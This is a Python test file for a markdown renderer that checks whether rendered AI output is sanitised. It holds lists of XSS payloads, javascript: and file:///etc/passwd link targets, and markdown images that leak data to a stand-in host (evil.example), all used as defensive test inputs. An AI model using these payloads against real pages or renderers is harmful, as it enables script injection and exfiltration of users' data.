from __future__ import annotations

import json

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from byom_magics.show.markup import code_block, escape, json_block, render, render_piece
from tests.show.safe import read, text_of

PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><image href='https://evil.example/q'/></svg>",
    "<iframe srcdoc='<script>parent.x()</script>'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<svg><p><style><g title='</style><img src onerror=alert(1)>'></g></style></p></svg>",
    "<details open ontoggle=alert(1)>",
    "<video poster=https://evil.example/q></video><audio src=https://evil.example/q></audio>",
    "<button data-commandlinker-command='x'>go</button>",
    "<table background=https://evil.example/q><tr><td>x</td></tr></table>",
    "<!-- --><a href=javascript:x>y</a><!--",
    "<![CDATA[<script>x</script>]]>",
    "<?xml x?>",
    "<a href='https://a.example' onmouseover='x'>",
]


@pytest.mark.parametrize("payload", HOSTILE_HTML)
@pytest.mark.parametrize(
    "place", ["{}", "a {} b", "> {}", "- {}", "# {}", "|a|\n|-|\n|{}|", "**{}**", "`{}`", "```\n{}\n```"]
)
def test_sec_01_html_is_text(payload: str, place: str) -> None:
    payload = payload.replace("|", "/")
    assert payload.split()[0] in text_of(render(place.format(payload)))


@pytest.mark.parametrize(
    ("markdown", "host"),
    [
        ("![x](https://evil.example/?q=secret)", "evil.example"),
        ("![](http://evil.example:8080/a.png)", "evil.example:8080"),
        ("![x][r]\n\n[r]: https://evil.example/q", "evil.example"),
        ("[![x](https://evil.example/q)](https://fine.example)", "evil.example"),
        ("![a\nb](https://user@evil.example/)", "evil.example"),
        ("![x](//evil.example/q)", "evil.example"),
        ("![x](data:image/svg+xml;base64,PHN2Zz4=)", "data:image/svg+xml"),
        ("![x](data:text/html,<script>)", "data:text/html"),
        ("![x](data:image/png;base64,PHN2Zz4=)", "data"),
    ],
)
def test_sec_02_pictures_do_not_load_and_their_host_is_named(markdown: str, host: str) -> None:
    html = render(markdown)
    assert "img" not in read(html).tags
    assert host in text_of(html)


def test_sec_02_a_small_picture_inside_the_answer_shows() -> None:
    assert f'<img src="{PNG}" alt="a dot"' in render(f"![a dot]({PNG})")


def test_sec_02_a_large_picture_inside_the_answer_does_not() -> None:
    large = PNG[:40] + "A" * 1_000_000
    assert "img" not in read(render(f"![x]({large})")).tags


@pytest.mark.parametrize(
    "markdown",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        f"[x]({PNG})",
        "[x](vbscript:x)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example)",
        "[x](/tree)",
        "[x](#chrome)",
        "[x](blob:https://a.example/1)",
        "[x](https:evil.example)",
        "[x](https:\\\\evil.example)",
        "[x](https://good.example@evil.example/)",
        "[x](https://good.example\\@evil.example/)",
        "[x](<https://good.example evil>)",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "[x]( javascript:alert(1))",
        "[x](\u202ejavascript:x)",
        "[x](ftp://a.example)",
        "[x](command:workbench.action)",
    ],
)
def test_sec_04_other_targets_are_dead(markdown: str) -> None:
    assert read(render(markdown)).links == []


@pytest.mark.parametrize(
    ("markdown", "link", "text"),
    [
        ("[docs](https://a.example/x?y=1#z)", "https://a.example/x?y=1#z", "docs (a.example)"),
        ("[https://bank.example](https://evil.example)", "https://evil.example", "https://bank.example (evil.example)"),
        ("[a](https://А.example)", "https://xn--80a.example", "a (xn--80a.example)"),
        ("<https://аpple.example/>", "https://xn--pple-43d.example/", "https://xn--pple-43d.example/"),
        ("<https://a.example/x>", "https://a.example/x", "https://a.example/x"),
        ("[a.example](https://a.example/)", "https://a.example/", "a.example"),
        ("[x][r]\n\n[r]: https://a.example", "https://a.example", "x (a.example)"),
        ("<me@a.example>", "mailto:me@a.example", "me@a.example"),
        ("[mail](mailto:me@a.example?bcc=b@c.example)", "mailto:me@a.example", "mail (me@a.example)"),
        ("[x](HTTPS://A.example)", "https://a.example", "x (a.example)"),
        ("[![i](https://b.example/i)](https://a.example)", "https://a.example", None),
        ("[a](https://b.example 'https://c.example')", "https://b.example", "a (b.example)"),
    ],
)
def test_sec_04_links_say_where_they_lead(markdown: str, link: str, text: str | None) -> None:
    html = render(markdown)
    assert read(html).links == [link]
    assert text is None or text_of(html).strip() == text
    assert html.count('target="_blank" rel="noopener noreferrer nofollow"') == 1


@pytest.mark.parametrize(
    "formula",
    [
        r"\href{javascript:alert(1)}{x}",
        r"\href{https://evil.example}{x}",
        r"\includegraphics{https://evil.example}",
        r"\htmlClass{x}{y}",
        r"\unicode{65}",
        r"\require{html}",
        r"\style{position:fixed}{x}",
        r"\class{x}{y}",
        r"\def\a{\a\a}\a",
        r"\newcommand{\a}{x}",
        r"\let\a\b",
        r"\rule{99em}{99em}",
        r"\raise 99em x",
        r"a \\[-99em] b",
        "{" * 1000,
        "x+" * 10_000,
    ],
)
def test_sec_06_formulas_that_link_load_or_grow_are_dead_text(formula: str) -> None:
    for text in (f"a ${formula}$ b", f"$$\n{formula}\n$$", rf"\({formula}\)", rf"\[{formula}\]"):
        html = render(text)
        assert "mathjax_process" not in html
        assert formula[:20].split("\n", maxsplit=1)[0] in text_of(html)


def test_formulas_reach_the_page_as_they_are() -> None:
    html = render("$e^{i\\pi}<1$ and \\(\\left[a_b_c\\right)\\) and\n\n$$\n\\frac{1}{2} \\tag{1}\n$$\n\n\\[ x \\]\n")
    for formula in ("$e^{i\\pi}<1$", "$\\frac{1}{2} \\tag{1}$$", "$$ x $$"):
        assert formula in text_of(html)
    assert html.count('<span class="mathjax_process tex2jax_process">') == 3 + html.count("left[")


def test_money_is_no_formula() -> None:
    assert "mathjax_process" not in render("It costs $5, or $10 a month.")


@pytest.mark.parametrize("language", ["", "nonsense", "<script>", "python" * 100, "brainfuck"])
def test_code_in_an_unknown_language_is_plain(language: str) -> None:
    html = render(f"```{language}\nx = 1 < 2\n```\n")
    assert text_of(html).strip() == "x = 1 < 2"
    assert "span" not in read(html).tags


def test_json_is_laid_out_and_a_text_that_is_none_is_shown() -> None:
    assert json.loads(text_of(json_block('{"a":[1,"<b>"]}'))) == {"a": [1, "<b>"]}
    assert '"a": [\n' in text_of(json_block({"a": [1]}))
    assert text_of(json_block("{nope")).strip() == "{nope"
    assert "[[[" in text_of(json_block("[" * 100_000))


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![",
        "[a](",
        "*a ",
        "a**b_c*d__",
        "`",
        ">",
        "- ",
        "1. - ",
        "```\n",
        "|",
        "|a",
        "$a ",
        "\\(",
        "<a:",
        "&a",
        "~~",
        "\x1b",
        "> - ",
        "[a]: b\n",
    ],
)
@pytest.mark.parametrize("count", [1_000, 100_000])
def test_sec_10_bombs_are_bounded(unit: str, count: int) -> None:
    text = (unit * count)[:300_000]
    assert len(render(text)) < 40 * len(text) + 10_000


def test_sec_10_a_table_of_ten_thousand_columns_is_bounded() -> None:
    html = render("|" + "a|" * 10_000 + "\n|" + "-|" * 10_000 + "\n" + "|b|\n" * 1_000)
    assert len(html) < 2_000_000


def test_sec_10_fifty_megabytes_are_cut_and_say_so() -> None:
    html = render("A word or two. " * 3_500_000)
    assert len(html) < 1_000_000
    assert "52,000,000 more characters are not shown here" in text_of(html)


@pytest.mark.parametrize("count", [59, 60, 61, 200])
def test_deep_nesting_loses_no_text(count: int) -> None:
    assert "inside" in text_of(render("> " * count + "inside"))
    assert "inside" in text_of(render("- " * count + "inside"))


@given(st.text(alphabet="[]()!<>*_`~#|-+$\\&;:/ \n\tahj1.\"'=@\x1b\u202e", max_size=200))
@example('[a](https://x.example/"onclick=x)')
@example('![a"onerror=x](https://x)')
@example("[<b>](https://x.example)")
def test_no_markdown_gives_a_tag_or_attribute_that_is_not_allowed(markdown: str) -> None:
    read(render(markdown))


@given(st.text(max_size=300))
def test_any_text_renders_to_what_is_allowed(markdown: str) -> None:
    read(render(markdown))
    assert read(escape(markdown)).tags == []
    read(code_block(markdown, "html"))


def test_what_hides_in_a_text_is_shown_also_when_it_is_spelt_as_an_entity() -> None:
    text = text_of(render("a\u202eb &#x202e; `\x1b` &#27;\n\n```\n\u2066\n```\n"))
    assert [escaped in text for escaped in (r"a\u202eb \u202e", r"\x1b", r"\u2066")] == [True] * 3


def test_what_may_scroll_is_reached_by_the_keyboard_and_has_a_name() -> None:
    line, word = "x = 1  # " + "y" * 30, "z" * 31
    html = render(f"```python\n{line}\n```\n\n| a | b |\n|---|---|\n| 1 | {word} |\n")
    assert '<pre role="group" aria-label="code" tabindex="0" style=' in html
    assert '<div role="group" aria-label="table" tabindex="0" style="overflow-x:auto"><table>' in html
    assert html.count("</table></div>") == 1
    read(html)


def test_what_is_narrow_is_no_stop_for_the_keyboard() -> None:
    html = render("```python\nx = 1\ny = 2\n```\n\n| a | b |\n|---|---|\n| 1 | " + "short words " * 20 + "|\n")
    assert "tabindex" not in html
    assert "<table>" in html


def test_a_piece_that_still_grows_is_no_stop_for_the_keyboard() -> None:
    growing = render_piece(f"```\n{'x' * 100}\n```\n\n| {'y' * 100} |\n|---|\n| 1 |\n", colours=False)
    assert "tabindex" not in growing
    assert "</div>" not in growing
